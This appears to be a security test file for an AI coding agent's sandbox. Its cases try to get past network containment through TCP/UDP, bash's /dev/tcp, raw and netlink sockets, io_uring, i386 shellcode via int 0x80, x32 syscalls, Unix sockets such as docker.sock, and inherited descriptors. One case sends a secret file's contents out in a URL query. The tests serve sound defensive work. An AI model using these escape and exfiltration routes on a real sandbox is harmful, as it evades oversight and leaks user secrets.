"""Cases 24 to 30, and 42: ways out through sockets. Servers of the agent listen; what counts is whether somebody reached one."""

import contextlib
import os
import socket
import threading
from collections.abc import Iterator

from kimicode.sandbox.boundary import Network
from tests.security.case import Catalogue
from tests.security.world import World

CATALOGUE = Catalogue()
add = CATALOGUE.add

_REASONS = (
    "EPERM",
    "EACCES",
    "ENETUNREACH",
    "ECONNREFUSED",
    "EAFNOSUPPORT",
    "ENOSYS",
    "ENOENT",
    "EHOSTUNREACH",
    "EADDRNOTAVAIL",
    "EPROTONOSUPPORT",
)

CLIENT = """
import errno, socket, sys
family, kind, address, port, word = sys.argv[1:]
try:
    s = socket.socket(getattr(socket, family), getattr(socket, kind))
    s.settimeout(3)
    where = address.replace("@", chr(0), 1) if family == "AF_UNIX" else (address, int(port))
    if kind == "SOCK_DGRAM":
        s.sendto(word.encode(), where)
    else:
        s.connect(where)
        s.sendall(word.encode())
    print("SENT")
except OSError as error:
    print(errno.errorcode.get(error.errno, type(error).__name__))
"""


@contextlib.contextmanager
def server(family: int, kind: int, address: object) -> Iterator[socket.socket]:
    with socket.socket(family, kind) as listening:
        listening.bind(address)  # type: ignore[arg-type]
        if kind == socket.SOCK_STREAM:
            listening.listen(16)
        listening.setblocking(False)
        yield listening


def reached(listening: socket.socket) -> bool:
    """True where somebody sent something or connected."""
    try:
        if listening.type == socket.SOCK_STREAM:
            listening.accept()[0].close()
        else:
            listening.recv(100)
    except BlockingIOError:
        return False
    return True


def refused_for_a_reason(world: World, output: str) -> None:
    """The control: the client ran and was told no by the kernel, or it got through."""
    world.control(any(reason in output for reason in (*_REASONS, "SENT", "MADE")))


def attack(world: World, family: str, kind: str, bind: str, connect: str | None = None) -> bool:
    with server(getattr(socket, family), getattr(socket, kind), (bind, 0)) as listening:
        ran = world.python(CLIENT, family, kind, connect or bind, listening.getsockname()[1], world.canary)
        refused_for_a_reason(world, ran.output)
        return reached(listening)


@add(24, "TCP over IPv4")
def tcp(world: World) -> bool:
    return attack(world, "AF_INET", "SOCK_STREAM", "127.0.0.1")


@add(24, "UDP over IPv4, which is also how names are looked up")
def udp(world: World) -> bool:
    return attack(world, "AF_INET", "SOCK_DGRAM", "127.0.0.1")


@add(24, "TCP over IPv6")
def tcp6(world: World) -> bool:
    return attack(world, "AF_INET6", "SOCK_STREAM", "::1")


@add(24, "UDP over IPv6")
def udp6(world: World) -> bool:
    return attack(world, "AF_INET6", "SOCK_DGRAM", "::1")


@add(24, "IPv4-mapped IPv6")
def mapped(world: World) -> bool:
    with server(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0)) as listening:
        ran = world.python(CLIENT, "AF_INET6", "SOCK_STREAM", "::ffff:127.0.0.1", listening.getsockname()[1], world.canary)
        refused_for_a_reason(world, ran.output)
        return reached(listening)


@add(24, "bash's own /dev/tcp and /dev/udp")
def dev_tcp(world: World) -> bool:
    with (
        server(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0)) as tcp_server,
        server(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0)) as udp_server,
    ):
        ran = world.shell(
            f"echo evil > /dev/tcp/127.0.0.1/{tcp_server.getsockname()[1]}; echo evil > /dev/udp/127.0.0.1/{udp_server.getsockname()[1]}"
        )
        world.control(not world.contained or "/dev/tcp" in ran.output)
        return reached(tcp_server) or reached(udp_server)


MADE = """
import errno, socket, sys
for family, kind, protocol in ((2, 2, 1), (2, 3, 1), (2, 3, 255), (17, 3, 0), (16, 3, 0), (2, 5, 132), (40, 1, 0), (38, 5, 0)):
    try:
        s = socket.socket(family, kind, protocol)
        if protocol == 1:
            s.sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0", ("127.0.0.1", 0))
        print("MADE", family, kind, protocol)
    except OSError as error:
        print(errno.errorcode[error.errno], family, kind, protocol)
"""


@add(24, "ICMP, raw, packet and netlink sockets, SCTP, vsock, the kernel's cryptography")
def other_sockets(world: World) -> bool:
    ran = world.python(MADE)
    refused_for_a_reason(world, ran.output)
    return "MADE" in ran.output


LISTENER = """
import socket, sys
with socket.create_server(("127.0.0.1", int(sys.argv[1]))) as s:
    s.settimeout(1)
    s.accept()
"""


@add(24, "a port that listens to the outside")
def listening(world: World) -> bool:
    # A network namespace may let a command listen to itself: what counts is whether somebody outside gets there.
    with server(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    finished, seen = threading.Event(), []

    def knock() -> None:
        while not finished.wait(0.02):
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 0.2):
                seen.append(True)
                return

    visitor = threading.Thread(target=knock)
    visitor.start()
    try:
        world.python(LISTENER, port)
    finally:
        finished.set()
        visitor.join()
    return bool(seen)


URING = """
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
got = libc.syscall(425, 8, params)
print("MADE" if got >= 0 else errno.errorcode[ctypes.get_errno()])
"""


@add(25, "io_uring, which makes sockets without socket(2)")
def io_uring(world: World) -> bool:
    ran = world.python(URING)
    refused_for_a_reason(world, ran.output)
    return "MADE" in ran.output


I386 = """
import ctypes, mmap
page = mmap.mmap(-1, 4096, prot=7)
# push rbx; mov eax, 359 (socket); mov ebx, 2; mov ecx, 1; xor edx, edx; int 0x80; pop rbx; ret
page.write(bytes.fromhex("53b867010000bb02000000b90100000031d2cd805bc3"))
call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
print("started", flush=True)
got = call()
print("MADE" if got >= 0 else "ANSWER", got)
"""


@add(26, "a socket through the i386 system call table (int 0x80)")
def i386(world: World) -> bool:
    ran = world.python(I386)
    world.control("started" in ran.output)
    return "MADE" in ran.output


X32 = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print("started", flush=True)
got = libc.syscall(0x40000000 + 41, 2, 1, 0)
print("MADE" if got >= 0 else "ANSWER", ctypes.get_errno())
"""


@add(26, "a socket through the x32 system call table", none="held", why="this kernel has none; the filter refuses it before it is asked")
def x32(world: World) -> bool:
    ran = world.python(X32)
    world.control("started" in ran.output)
    return "MADE" in ran.output


@add(27, "a Unix socket outside, as docker, ssh-agent, gpg-agent, D-Bus and X11 have")
def unix_socket(world: World) -> bool:
    with server(socket.AF_UNIX, socket.SOCK_STREAM, str(world.outside / "docker.sock")) as listening:
        ran = world.python(CLIENT, "AF_UNIX", "SOCK_STREAM", world.outside / "docker.sock", 0, world.canary)
        refused_for_a_reason(world, ran.output)
        return reached(listening)


@add(27, "a Unix socket in the workspace, where somebody outside listens")
def unix_socket_inside(world: World) -> bool:
    with server(socket.AF_UNIX, socket.SOCK_STREAM, str(world.workspace / "agent.sock")) as listening:
        ran = world.python(CLIENT, "AF_UNIX", "SOCK_STREAM", world.workspace / "agent.sock", 0, world.canary)
        refused_for_a_reason(world, ran.output)
        return reached(listening)


@add(27, "a Unix datagram socket, as the system's log has")
def unix_datagram(world: World) -> bool:
    with server(socket.AF_UNIX, socket.SOCK_DGRAM, str(world.outside / "log")) as listening:
        ran = world.python(CLIENT, "AF_UNIX", "SOCK_DGRAM", world.outside / "log", 0, world.canary)
        refused_for_a_reason(world, ran.output)
        return reached(listening)


@add(27, "an abstract Unix socket")
def abstract_socket(world: World) -> bool:
    with server(socket.AF_UNIX, socket.SOCK_STREAM, f"\0{world.canary}") as listening:
        ran = world.python(CLIENT, "AF_UNIX", "SOCK_STREAM", f"@{world.canary}", 0, world.canary)
        refused_for_a_reason(world, ran.output)
        return reached(listening)


DESCRIPTORS = """
import os
for name in os.listdir("/proc/self/fd"):
    try:
        print("FD", name, os.readlink(f"/proc/self/fd/{name}"))
    except OSError:
        pass
"""


@add(28, "descriptors that the agent has open: only 0, 1 and 2 arrive", none="held")
def descriptors(world: World) -> bool:
    inherited = [os.open(world.victim, os.O_RDWR), os.open(world.outside, os.O_RDONLY), socket.socket().detach()]
    try:
        for descriptor in inherited:
            os.set_inheritable(descriptor, True)
        ran = world.python(DESCRIPTORS)
    finally:
        for descriptor in inherited:
            os.close(descriptor)
    found = [line.split() for line in ran.output.splitlines() if line.startswith("FD ")]
    world.control(len(found) >= 3)
    # The script itself is not open any more; the listing of its own descriptors is gone when its link is read.
    return any(int(number) > 2 for _, number, *_ in found)


@add(42, "what the repository says leaves through a URL")
def exfiltration(world: World) -> bool:
    (world.workspace / "secret.txt").write_text(world.canary)
    with server(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0)) as listening:
        port = listening.getsockname()[1]
        code = (
            "import sys, urllib.request\n"
            "word = open('secret.txt').read()\n"
            "try:\n    urllib.request.urlopen(f'http://127.0.0.1:{sys.argv[1]}/?q={word}', timeout=1)\n"
            "except OSError as error:\n    print('FAILED', error)\n"
        )
        ran = world.python(code, port)
        world.control("FAILED" in ran.output)
        return reached(listening)


PROXIED = """
import os, urllib.request
proxy = os.environ.get("http_proxy", "none")
print("PROXY", proxy)
try:
    urllib.request.urlopen("http://allowed.example/", timeout=0.5)
except OSError as error:
    print("FAILED", error)
"""


@add(30, "a filtering proxy is the one way out: other ports and sockets stay out of reach")
def only_the_proxy(world: World) -> bool:
    proxy = world.outside / "proxy.sock"
    with (
        server(socket.AF_UNIX, socket.SOCK_STREAM, str(proxy)) as ours,
        server(socket.AF_UNIX, socket.SOCK_STREAM, str(world.outside / "docker.sock")) as other,
        server(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0)) as tcp_server,
        server(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0)) as udp_server,
    ):
        network = Network("hosts", proxy)
        for family, kind, where, port in (
            ("AF_INET", "SOCK_STREAM", "127.0.0.1", tcp_server.getsockname()[1]),
            ("AF_INET", "SOCK_DGRAM", "127.0.0.1", udp_server.getsockname()[1]),
            ("AF_UNIX", "SOCK_STREAM", world.outside / "docker.sock", 0),
        ):
            refused_for_a_reason(world, world.python(CLIENT, family, kind, where, port, world.canary, network=network).output)
        out = any([reached(each) for each in (other, tcp_server, udp_server)])  # noqa: C419 - each is emptied
        world.python(PROXIED, network=network)
        world.control(reached(ours) == world.contained)
        return out
